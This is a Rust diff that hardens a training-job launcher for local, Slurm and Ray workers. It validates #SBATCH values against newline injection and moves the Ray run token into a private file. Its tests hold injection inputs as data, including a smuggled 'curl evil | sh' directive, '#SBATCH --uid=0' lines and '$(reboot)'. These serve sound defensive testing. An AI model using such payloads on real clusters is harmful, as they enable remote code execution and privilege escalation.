@@ -6,11 +6,12 @@
 //!   `--gres`), submits it, watches the job with `scontrol`, cancels it at the end.
 //! - [`RayLauncher`]: one Ray job per worker through the Jobs REST API.
 
-use crate::auth::TOKEN_ENV;
+use crate::auth::{TOKEN_ENV, TOKEN_FILE_ENV};
+use crate::tls::TlsMode;
 use crate::E_LAUNCH;
 use miles_runtime::RunError;
 use std::path::{Path, PathBuf};
-use std::process::{Child, Command, Stdio};
+use std::process::{Command, Stdio};
 use std::time::Duration;
 
 /// One worker process to start.
@@ -36,6 +37,8 @@ pub struct LaunchEnv {
     pub out_dir: PathBuf,
     /// Address workers listen on (loopback unless configured otherwise).
     pub bind_host: String,
+    /// The controller's TLS mode, which its workers must share (`--tls`: not a secret).
+    pub tls: TlsMode,
 }
 
 impl LaunchEnv {
@@ -55,6 +58,9 @@ impl LaunchEnv {
             "--local-dir".into(),
             self.out_dir.join("workers").join(&w.worker_id).to_string_lossy().into_owned(),
         ];
+        if self.tls == TlsMode::Always {
+            a.extend(["--tls".into(), "always".into()]);
+        }
         if !w.cpus.is_empty() {
             a.push("--cpus".into());
             a.push(w.cpus.iter().map(|c| c.to_string()).collect::<Vec<_>>().join(","));
@@ -72,10 +78,12 @@ pub trait Launcher: Send {
     fn stop(&mut self);
 }
 
-/// Child processes on this machine.
+/// Child processes on this machine, started by `miles_runtime::child::spawn`: each in a process
+/// group of its own (killed as a group at the end), dead with the run, its environment
+/// `child::BASE_ENV` and `child::ENGINE_ENV` plus the run token, which only workers get.
 #[derive(Default)]
 pub struct LocalLauncher {
-    children: Vec<(String, Child)>,
+    children: Vec<(String, miles_runtime::child::GroupChild)>,
 }
 
 impl Launcher for LocalLauncher {
@@ -91,13 +99,10 @@ impl Launcher for LocalLauncher {
             let log =
                 std::fs::File::create(&log_path).map_err(|e| RunError::io(E_LAUNCH, "cannot create", &log_path, e))?;
             let err = log.try_clone().map_err(|e| RunError::io(E_LAUNCH, "cannot open", &log_path, e))?;
-            let child = Command::new(&env.exe)
-                .args(env.args(w))
-                .env(TOKEN_ENV, &env.token)
-                .stdin(Stdio::null())
-                .stdout(log)
-                .stderr(err)
-                .spawn()
+            let mut cmd = Command::new(&env.exe);
+            cmd.args(env.args(w)).stdin(Stdio::null()).stdout(log).stderr(err);
+            let child_env = miles_runtime::child::ChildEnv::engine().with(TOKEN_ENV, &env.token);
+            let child = miles_runtime::child::spawn(cmd, &child_env)
                 .map_err(|e| RunError::new(E_LAUNCH, format!("cannot start {}: {e}", env.exe.display())))?;
             self.children.push((w.worker_id.clone(), child));
         }
@@ -124,10 +129,8 @@ impl Launcher for LocalLauncher {
                 }
                 std::thread::sleep(Duration::from_millis(20));
             }
-            if matches!(c.try_wait(), Ok(None)) {
-                let _ = c.kill();
-            }
-            let _ = c.wait();
+            // Its group, whether it exited or not: what it started goes with it.
+            c.kill();
         }
         self.children.clear();
     }
@@ -154,14 +157,18 @@ impl SlurmLauncher {
         SlurmLauncher { partition, time_limit: None, extra: Vec::new(), job_id: None, script: None }
     }
 
-    /// The sbatch script (a pure function: tested without Slurm).
-    pub fn script(&self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> String {
+    /// The sbatch script (a pure function: tested without Slurm). Values that land in `#SBATCH`
+    /// lines are checked first: sbatch reads a directive to the end of its line, unquoted, so a
+    /// newline in a partition would add a directive of the recipe's choosing.
+    pub fn script(&self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<String, RunError> {
+        self.check(env)?;
         let logs = env.out_dir.join("workers");
         let mut s = String::from("#!/bin/bash\n");
-        s.push_str(&format!(
-            "#SBATCH --job-name=miles-{}\n",
-            env.out_dir.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_else(|| "run".into())
-        ));
+        // The job name is cosmetic: anything but a safe character becomes `_`.
+        let run = env.out_dir.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_else(|| "run".into());
+        let run: String =
+            run.chars().map(|c| if c.is_ascii_alphanumeric() || "-_.".contains(c) { c } else { '_' }).collect();
+        s.push_str(&format!("#SBATCH --job-name=miles-{run}\n"));
         s.push_str(&format!("#SBATCH --ntasks={}\n", workers.len()));
         let cpus = workers.iter().map(|w| w.cpus.len().max(1)).max().unwrap_or(1);
         s.push_str(&format!("#SBATCH --cpus-per-task={cpus}\n"));
@@ -207,7 +214,40 @@ impl SlurmLauncher {
             s.push_str(" &\n");
         }
         s.push_str("wait\n");
-        s
+        Ok(s)
+    }
+
+    /// Refuses what cannot go into a `#SBATCH` line as it is: a partition or time limit outside
+    /// Slurm's own characters, and a line break anywhere in a directive or a path.
+    fn check(&self, env: &LaunchEnv) -> Result<(), RunError> {
+        let refuse = |what: &str, v: &str, allowed: &str| {
+            RunError::new(E_LAUNCH, format!("the slurm launcher's {what} {v:?} is not a Slurm {what}"))
+                .with_help(format!("a {what} may hold only {allowed}"))
+        };
+        if let Some(p) = &self.partition {
+            if p.is_empty() || !p.chars().all(|c| c.is_ascii_alphanumeric() || "-_.,".contains(c)) {
+                return Err(refuse("partition", p, "letters, digits, `-`, `_`, `.` and `,` (several partitions)"));
+            }
+        }
+        if let Some(t) = &self.time_limit {
+            let words = ["UNLIMITED", "INFINITE"].iter().any(|w| t.eq_ignore_ascii_case(w));
+            if !words && (t.is_empty() || !t.chars().all(|c| c.is_ascii_digit() || c == ':' || c == '-')) {
+                return Err(refuse(
+                    "time_limit",
+                    t,
+                    "digits, `:` and `-` (e.g. \"04:00:00\", \"2-00:00:00\") or UNLIMITED",
+                ));
+            }
+        }
+        let lines = self.extra.iter().map(|e| ("an extra #SBATCH line", e.clone()));
+        let paths = [("the run directory", env.out_dir.to_string_lossy().into_owned())];
+        if let Some((what, v)) = lines.chain(paths).find(|(_, v)| v.chars().any(char::is_control)) {
+            return Err(RunError::new(
+                E_LAUNCH,
+                format!("{what} {v:?} holds a line break or control character, which would end its #SBATCH line"),
+            ));
+        }
+        Ok(())
     }
 }
 
@@ -265,10 +305,11 @@ impl Launcher for SlurmLauncher {
     }
 
     fn launch(&mut self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<(), RunError> {
+        // Refused values stop the launch before anything is written.
+        let text = self.script(env, workers)?;
         let dir = env.out_dir.join("workers");
         std::fs::create_dir_all(&dir).map_err(|e| RunError::io(E_LAUNCH, "cannot create", &dir, e))?;
         let path = env.out_dir.join("job.sbatch");
-        let text = self.script(env, workers);
         write_private(&path, &text)?;
         let out = run_cmd(Command::new("sbatch").arg("--parsable").arg(&path), "sbatch", Duration::from_secs(30))?;
         let id = out.trim().split(';').next().unwrap_or("").to_string();
@@ -317,15 +358,31 @@ fn write_private(path: &Path, text: &str) -> Result<(), RunError> {
 }
 
 /// Ray: each worker is a job submitted through the Jobs REST API of the head at `address`
-/// (`http://host:8265`).
+/// (`http://host:8265`). A job's `runtime_env` and submission id are shown to anyone who can see
+/// the cluster's jobs, so neither carries the token: it is in a file of the run directory, mode
+/// 0600, whose path the job gets (the worker must run as the same user on a file system that
+/// shares the run directory, as checkpoints already need).
 pub struct RayLauncher {
     pub address: String,
     pub jobs: Vec<(String, String)>,
+    /// Makes submission ids unique per run; random, unrelated to the token.
+    tag: String,
+    token_file: Option<PathBuf>,
 }
 
 impl RayLauncher {
     pub fn new(address: &str) -> Self {
-        RayLauncher { address: address.trim_end_matches('/').to_string(), jobs: Vec::new() }
+        let tag = crate::auth::new_token().map(|t| t[..8].to_string()).unwrap_or_else(|_| {
+            let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
+            format!("{:x}{:x}", std::process::id(), nanos.subsec_nanos())
+        });
+        RayLauncher { address: address.trim_end_matches('/').to_string(), jobs: Vec::new(), tag, token_file: None }
+    }
+
+    /// Where the run's token is written for its Ray jobs.
+    pub fn token_path(env: &LaunchEnv) -> PathBuf {
+        let p = env.out_dir.join("workers").join("run.token");
+        std::path::absolute(&p).unwrap_or(p)
     }
 
     /// The request body of one worker's job (a pure function: tested without Ray).
@@ -334,12 +391,13 @@ impl RayLauncher {
         let mut launch = w.clone();
         launch.cpus.clear();
         parts.extend(env.args(&launch).iter().map(|a| sh(a)));
+        let token_file = Self::token_path(env).to_string_lossy().into_owned();
         serde_json::json!({
             "entrypoint": parts.join(" "),
-            "submission_id": format!("miles-{}-{}", w.worker_id, &env.token[..8.min(env.token.len())]),
+            "submission_id": format!("miles-{}-{}", w.worker_id, self.tag),
             "entrypoint_num_cpus": w.cpus.len().max(1),
             "entrypoint_num_gpus": w.gpus,
-            "runtime_env": { "env_vars": { TOKEN_ENV: env.token } },
+            "runtime_env": { "env_vars": { TOKEN_FILE_ENV: token_file } },
         })
     }
 }
@@ -350,6 +408,11 @@ impl Launcher for RayLauncher {
     }
 
     fn launch(&mut self, env: &LaunchEnv, workers: &[WorkerLaunch]) -> Result<(), RunError> {
+        let dir = env.out_dir.join("workers");
+        std::fs::create_dir_all(&dir).map_err(|e| RunError::io(E_LAUNCH, "cannot create", &dir, e))?;
+        let token_file = Self::token_path(env);
+        write_private(&token_file, &env.token)?;
+        self.token_file = Some(token_file);
         for w in workers {
             let body = self.job_body(env, w);
             let url = format!("{}/api/jobs/", self.address);
@@ -380,6 +443,10 @@ impl Launcher for RayLauncher {
             let url = format!("{}/api/jobs/{id}/stop", self.address);
             let _ = crate::http::post_json(&url, &serde_json::json!({}), Duration::from_secs(5));
         }
+        // The token dies with the run; its file goes with it.
+        if let Some(f) = self.token_file.take() {
+            let _ = std::fs::remove_file(f);
+        }
     }
 }
 
@@ -394,6 +461,7 @@ mod tests {
             token: "abcdef0123456789".into(),
             out_dir: "/scratch/runs/grpo arith".into(),
             bind_host: "0.0.0.0".into(),
+            tls: TlsMode::Auto,
         }
     }
 
@@ -422,7 +490,7 @@ mod tests {
     fn sbatch_script_has_one_step_per_worker_with_gres() {
         let mut l = SlurmLauncher::new(Some("debug".into()));
         l.time_limit = Some("01:00:00".into());
-        let s = l.script(&env(), &workers());
+        let s = l.script(&env(), &workers()).unwrap();
         assert!(s.contains("#SBATCH --ntasks=2\n"), "{s}");
         assert!(s.contains("#SBATCH --gres=gpu:6\n"));
         assert!(s.contains("#SBATCH --partition=debug\n"));
@@ -431,11 +499,60 @@ mod tests {
         assert!(s.contains("srun --exact --ntasks=1 --cpus-per-task=2 --job-name=trainer-0"));
         let mut cpu_only = workers();
         cpu_only[0].gpus = 0;
-        assert!(l.script(&env(), &cpu_only).contains(" --gres=none "), "a CPU step must not take the job's GPUs");
+        assert!(
+            l.script(&env(), &cpu_only).unwrap().contains(" --gres=none "),
+            "a CPU step must not take the job's GPUs"
+        );
         assert!(s.contains("--gres=gpu:2 /opt/miles/bin/miles worker --id rollout-0 --role rollout"));
         assert!(s.contains("'/scratch/runs/grpo arith/workers/rollout-0'"), "paths with spaces are quoted");
         assert!(!s.contains("--cpus "), "Slurm places steps itself");
         assert!(s.ends_with("wait\n"));
+    }
+
+    /// A controller with TLS forced on loopback starts its workers with `--tls always`, whatever
+    /// environment a launcher gives them (local processes get an allow-listed one).
+    #[test]
+    fn forced_tls_reaches_every_launchers_workers() {
+        let mut e = env();
+        assert!(!e.args(&workers()[0]).contains(&"--tls".to_string()));
+        e.tls = TlsMode::Always;
+        assert!(e.args(&workers()[0]).windows(2).any(|a| a == ["--tls", "always"]));
+        let l = SlurmLauncher::new(None);
+        assert!(l.script(&e, &workers()).unwrap().contains("--role trainer --stage train --controller"));
+        assert_eq!(l.script(&e, &workers()).unwrap().matches(" --tls always").count(), 2);
+        let b = RayLauncher::new("http://h:8265").job_body(&e, &workers()[1]);
+        assert!(b["entrypoint"].as_str().unwrap().contains(" --tls always"));
+    }
+
+    /// A recipe value with a line break would add an `#SBATCH` directive (or a shell line) of its
+    /// own: refused with E0516 before anything is written or submitted.
+    #[test]
+    fn slurm_values_that_would_inject_a_directive_are_refused() {
+        let out = std::env::temp_dir().join(format!("miles-sbatch-inject-{}", std::process::id()));
+        let mut e = env();
+        e.out_dir = out.clone();
+        let mut l = SlurmLauncher::new(Some("debug\n#SBATCH --wrap=\"curl evil | sh\"".into()));
+        let err = l.launch(&e, &workers()).unwrap_err();
+        assert_eq!(err.code, E_LAUNCH);
+        assert!(err.message.contains("partition") && err.message.contains("is not a Slurm partition"), "{err}");
+        assert!(!out.exists(), "nothing is written for a refused launch");
+        for bad in ["01:00:00\n#SBATCH --uid=0", "1h", "", "$(reboot)"] {
+            l.partition = Some("gpu,debug".into());
+            l.time_limit = Some(bad.into());
+            let err = l.script(&env(), &workers()).unwrap_err();
+            assert!(err.message.contains("time_limit"), "{bad:?}: {err}");
+        }
+        for good in ["30", "04:00:00", "2-00:00:00", "unlimited"] {
+            l.time_limit = Some(good.into());
+            assert!(l.script(&env(), &workers()).unwrap().contains(&format!("#SBATCH --time={good}\n")));
+        }
+        l.time_limit = None;
+        l.extra = vec!["--account=a\n#SBATCH --uid=0".into()];
+        assert!(l.script(&env(), &workers()).unwrap_err().message.contains("extra #SBATCH line"));
+        l.extra.clear();
+        let mut e = env();
+        e.out_dir = "/scratch/run\n#SBATCH --uid=0".into();
+        assert!(l.script(&e, &workers()).unwrap_err().message.contains("run directory"));
     }
 
     #[test]
@@ -443,8 +560,78 @@ mod tests {
         let l = RayLauncher::new("http://127.0.0.1:8265/");
         let b = l.job_body(&env(), &workers()[1]);
         assert_eq!(b["entrypoint_num_gpus"], 2);
-        assert_eq!(b["runtime_env"]["env_vars"]["MILES_RUN_TOKEN"], "abcdef0123456789");
         assert!(b["entrypoint"].as_str().unwrap().starts_with("/opt/miles/bin/miles worker --id rollout-0"));
-        assert!(!b["entrypoint"].as_str().unwrap().contains("abcdef"), "the token is not on the command line");
+        // The whole body is the job's metadata (dashboard, `ray job list`): no byte of the token,
+        // nor any 8-character piece of it (the submission id once held one), anywhere in it; the
+        // worker gets a private file's path.
+        let text = b.to_string();
+        let token = env().token;
+        for piece in token.as_bytes().windows(8) {
+            assert!(!text.contains(std::str::from_utf8(piece).unwrap()), "{piece:?} of the token in {text}");
+        }
+        assert_eq!(b["runtime_env"]["env_vars"]["MILES_RUN_TOKEN_FILE"], "/scratch/runs/grpo arith/workers/run.token");
+        assert!(b["runtime_env"]["env_vars"].get("MILES_RUN_TOKEN").is_none());
+        // Two launchers (two runs) never share a submission id.
+        assert_ne!(
+            b["submission_id"],
+            RayLauncher::new("http://h:8265").job_body(&env(), &workers()[1])["submission_id"]
+        );
+    }
+
+    /// The token file a Ray job reads is private, and goes when the run stops.
+    #[test]
+    fn ray_token_file_is_private_and_removed_at_stop() {
+        use std::os::unix::fs::PermissionsExt;
+        let mut e = env();
+        e.out_dir = std::env::temp_dir().join(format!("miles-ray-token-{}", std::process::id()));
+        // A head that is not there: the launch fails after the token file is written.
+        let mut l = RayLauncher::new("http://127.0.0.1:1");
+        assert!(l.launch(&e, &workers()).is_err());
+        let f = RayLauncher::token_path(&e);
+        assert_eq!(std::fs::metadata(&f).unwrap().permissions().mode() & 0o777, 0o600);
+        assert_eq!(crate::auth::worker_token(None, Some(f.clone())).unwrap(), e.token);
+        l.stop();
+        assert!(!f.exists());
+        let _ = std::fs::remove_dir_all(&e.out_dir);
+    }
+
+    /// A local worker gets the run token and never `MILES_API_KEY`, and what it starts is killed
+    /// with it when the run stops.
+    #[test]
+    fn local_workers_get_the_token_alone_and_die_with_their_group() {
+        use std::os::unix::fs::PermissionsExt;
+        std::env::set_var("MILES_API_KEY", "secret-key");
+        let mut e = env();
+        e.out_dir = std::env::temp_dir().join(format!("miles-local-launch-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&e.out_dir);
+        std::fs::create_dir_all(&e.out_dir).unwrap();
+        // A stand-in for `miles worker`: starts a process of its own, says what it sees, waits.
+        let seen = e.out_dir.join("seen");
+        let script = format!(
+            "#!/bin/sh\nsleep 1000 &\necho \"${{MILES_API_KEY-unset}}|${{MILES_RUN_TOKEN-unset}}|$!\" > {0}.tmp && mv {0}.tmp {0}\nwait\n",
+            seen.display()
+        );
+        e.exe = e.out_dir.join("worker.sh");
+        std::fs::write(&e.exe, script).unwrap();
+        std::fs::set_permissions(&e.exe, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let mut l = LocalLauncher::default();
+        l.launch(&e, &workers()[..1]).unwrap();
+        let t0 = std::time::Instant::now();
+        while !seen.exists() && t0.elapsed() < Duration::from_secs(5) {
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        let text = std::fs::read_to_string(&seen).unwrap();
+        let (env_seen, pid) = text.trim().rsplit_once('|').unwrap();
+        assert_eq!(env_seen, "unset|abcdef0123456789");
+        let alive =
+            |pid: &str| std::fs::read_to_string(format!("/proc/{pid}/status")).is_ok_and(|s| !s.contains("State:\tZ"));
+        assert!(alive(pid));
+        l.stop();
+        let t0 = std::time::Instant::now();
+        while alive(pid) && t0.elapsed() < Duration::from_secs(2) {
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        assert!(!alive(pid), "the worker's `sleep` {pid} outlived the run's stop");
+        let _ = std::fs::remove_dir_all(&e.out_dir);
     }
 }
